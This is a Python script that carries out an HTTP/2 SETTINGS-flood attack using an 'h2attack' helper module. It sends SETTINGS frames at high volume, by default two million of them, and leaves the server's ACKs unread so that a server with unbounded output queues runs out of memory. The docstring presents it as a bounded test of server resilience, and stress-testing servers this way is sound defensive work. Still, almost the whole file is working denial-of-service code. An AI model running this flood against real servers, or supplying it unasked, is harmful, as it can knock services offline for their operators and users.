#!/usr/bin/env python3
"""SETTINGS flood: SETTINGS frames (each changing INITIAL_WINDOW_SIZE, which makes the
server adjust every stream, and MAX_FRAME_SIZE) sent as fast as possible while NOT
reading the ACKs the server owes (a small receive buffer), so a server that queues
its output without bound grows. Bounded by --count frames and --seconds; then reads
for 1 s to see the reaction. A resilient server stops reading (backpressure) or
closes (GOAWAY ENHANCE_YOUR_CALM)."""
import time

import h2attack as a


def attack(args):
    c = a.Conn(args, rcvbuf=4096)
    a.wait_settings(c, 0.5)
    deadline = a.until_deadline(args)
    f1 = a.settings([(a.INITIAL_WINDOW_SIZE, 65535), (a.MAX_FRAME_SIZE, 16384)])
    f2 = a.settings([(a.INITIAL_WINDOW_SIZE, 65536), (a.MAX_FRAME_SIZE, 16385)])
    batch = (f1 + f2) * 500
    sent = 0
    while not c.closed and sent < args.count and time.monotonic() < deadline:
        if not c.send(batch, read=False, timeout=min(2.0, max(0.1, deadline - time.monotonic()))):
            break
        sent += 1000
    c.pump(1.0)
    c.close()
    return {"sent": "%d SETTINGS frames unread-ACKed; %d ACKs read after" % (sent, c.settings_acks),
            "frames": sent, "acks": c.settings_acks, "reaction": c.reaction()}


if __name__ == "__main__":
    a.run("settings_flood", __doc__, attack, count_default=2000000)
